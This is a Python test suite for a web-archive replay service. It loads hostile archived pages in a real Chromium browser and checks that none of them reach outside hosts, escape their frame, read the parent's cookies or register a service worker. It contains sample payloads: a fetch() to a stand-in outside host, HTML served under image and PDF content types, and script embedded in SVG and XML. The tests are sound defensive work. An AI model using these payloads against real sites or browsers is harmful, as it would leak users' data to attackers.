"""Archived pages that mean harm, in a real browser: nothing leaves the origin of the content."""

import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext

from tests.browser.conftest import PATIENCE
from tests.browser.outside import Outside, outside
from tests.chromium import need_chromium, running_chromium
from tests.integration.access.replay.serving import Served, serving
from tests.integration.access.world import Page as Captured
from tests.integration.access.world import world_of
from tests.sites.hostile_pages import ATTEMPTS, OUTSIDE, hostile
from tests.sites.living_page import png

LINGER = 1.0  # seconds in which an attempt would have reached the outside
BATCHES = 4


@dataclass
class Stage:
    browser: Browser
    served: Served
    world: Outside
    staff: Outside


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    need_chromium()
    folder: Path = tmp_path_factory.mktemp("hostile")
    with outside() as world, outside() as staff:
        address = f"http://127.0.0.1:{staff.port}"
        pages = [
            Captured(f"http://hostile.example/{number}", hostile(name, staff=address, stun=world.port))
            for number, name in enumerate(ATTEMPTS)
        ]
        pages += [Captured("http://hostile.example/picture.png", png(1), type="image/png"), *_disguised()]
        # The name of the outside leads to it. All others but our own are unknown: browsers ask for some.
        names = f"MAP {OUTSIDE} 127.0.0.1:{world.port}, MAP * ~NOTFOUND, EXCLUDE localhost, EXCLUDE 127.0.0.1"
        site = world_of(folder, pages).site
        with serving(site) as served, running_chromium(f"--host-resolver-rules={names}") as browser:
            yield Stage(browser, served, world, staff)


ESCAPE = f"fetch('http://{OUTSIDE}/out', {{mode: 'no-cors'}}).catch(() => 0)"
PAGE = f"<!doctype html><title>disguised</title><script>{ESCAPE}; document.title = 'ran'</script>"
XHTML = "<html xmlns='http://www.w3.org/1999/xhtml'><head><title>page</title></head><body>%s</body></html>"
# By what the archived answer called itself.
DISGUISES = {
    "comma": "image/png, text/html",
    "parameter": "image/png;x=1, text/html",
    "paper": "application/pdf, text/html",
    "fields": "image/png",
}


def _disguised() -> Iterator[Captured]:
    for name, kind in DISGUISES.items():
        second = (("Content-Type", "text/html"),) if name == "fields" else ()
        yield Captured(f"http://disguised.example/{name}", PAGE, type=kind, headers=second)
    ran = "<script>document.documentElement.setAttribute('ran', typeof RTCPeerConnection)</script>"
    drawing = f"<svg xmlns='http://www.w3.org/2000/svg'>{ran}</svg>"
    yield Captured("http://xml.example/svg", drawing, type="image/svg+xml")
    yield Captured("http://xml.example/xml", XHTML % ran, type="text/xml")
    yield Captured("http://xml.example/atom", XHTML % ran, type="application/atom+xml")
    yield Captured("http://xml.example/xhtml", XHTML % ran, type="application/xhtml+xml")


@pytest.fixture
def context(stage: Stage) -> Iterator[BrowserContext]:
    context = stage.browser.new_context()
    context.set_default_timeout(PATIENCE)
    stage.world.heard.clear()
    stage.staff.heard.clear()
    yield context
    context.close()


def test_the_outside_hears_what_reaches_it(stage: Stage, context: BrowserContext) -> None:
    context.new_page().evaluate(f"fetch('http://{OUTSIDE}/proof').catch(() => 0)")
    time.sleep(LINGER)
    assert "GET /proof HTTP/1.1" in stage.world.heard


@pytest.mark.parametrize("batch", range(BATCHES))
def test_no_attempt_gets_out(stage: Stage, context: BrowserContext, batch: int) -> None:
    """Several pages at a time: what is heard names the attempt."""
    names = list(ATTEMPTS)[batch::BATCHES]
    pages = {}
    for name in names:
        address = stage.served.frame(f"http://hostile.example/{list(ATTEMPTS).index(name)}")
        pages[name] = context.new_page()
        pages[name].goto(address, wait_until="commit")
    for page in pages.values():
        page.wait_for_load_state()
        page.wait_for_function("told.some((said) => said.armarium === 'page')")
    time.sleep(LINGER)
    assert (stage.world.heard, stage.staff.heard) == ([], [])
    led_away = [name for name, page in pages.items() if not page.url.startswith(stage.served.reading)]
    assert led_away == []
    assert len(context.pages) == len(pages), "a window was opened"


@pytest.mark.parametrize("name", DISGUISES)
def test_a_page_that_says_it_is_a_picture_is_taken_for_what_the_browser_takes_it_for(
    stage: Stage, context: BrowserContext, name: str
) -> None:
    page = context.new_page()
    page.goto(stage.served.frame(f"http://disguised.example/{name}"))
    page.wait_for_function("told.some((said) => said.title === 'ran')")
    time.sleep(LINGER)
    assert stage.world.heard == []


@pytest.mark.parametrize(
    ("name", "ran"), [("svg", None), ("xml", None), ("atom", None), ("xhtml", "undefined")]
)
def test_a_page_of_xml_runs_no_script_or_ours_before_its_own(
    stage: Stage, context: BrowserContext, name: str, ran: str | None
) -> None:
    page = context.new_page()
    page.goto(stage.served.frame(f"http://xml.example/{name}"))
    assert page.frames[1].evaluate("document.documentElement.getAttribute('ran')") == ran


def test_a_page_of_xhtml_tells_the_frame_which_one_it_is(stage: Stage, context: BrowserContext) -> None:
    page = context.new_page()
    page.goto(stage.served.frame("http://xml.example/xhtml"))
    page.wait_for_function(
        "told.some((said) => said.url === 'http://xml.example/xhtml' && said.title === 'page')"
    )
    assert page.frames[1].evaluate("location.href").startswith(stage.served.content)
    assert page.frames[1].evaluate("WB_wombat_location.href") == "http://xml.example/xhtml"


def test_a_page_cannot_read_what_the_frame_around_it_knows(stage: Stage, context: BrowserContext) -> None:
    page = context.new_page()
    page.goto(stage.served.frame("http://hostile.example/0"))
    archived = page.frames[1]
    assert (
        archived.evaluate("(() => { try { return top.document.cookie } catch { return 'denied' } })()")
        == "denied"
    )
    assert "secret" not in archived.evaluate("document.cookie")
    assert "armarium_reading" in {cookie["name"] for cookie in context.cookies(stage.served.reading)}


def test_raw_bytes_are_shown_as_text_and_run_nothing(stage: Stage, context: BrowserContext) -> None:
    page = context.new_page()
    page.goto(stage.served.archived("http://hostile.example/0", mod="id_"))
    time.sleep(LINGER)
    assert page.evaluate("document.contentType") == "text/plain"
    assert stage.world.heard == []


def test_no_service_worker_comes_to_stay(stage: Stage, context: BrowserContext) -> None:
    number = list(ATTEMPTS).index("service worker")
    page = context.new_page()
    page.goto(stage.served.frame(f"http://hostile.example/{number}"))
    time.sleep(LINGER)
    assert context.service_workers == []
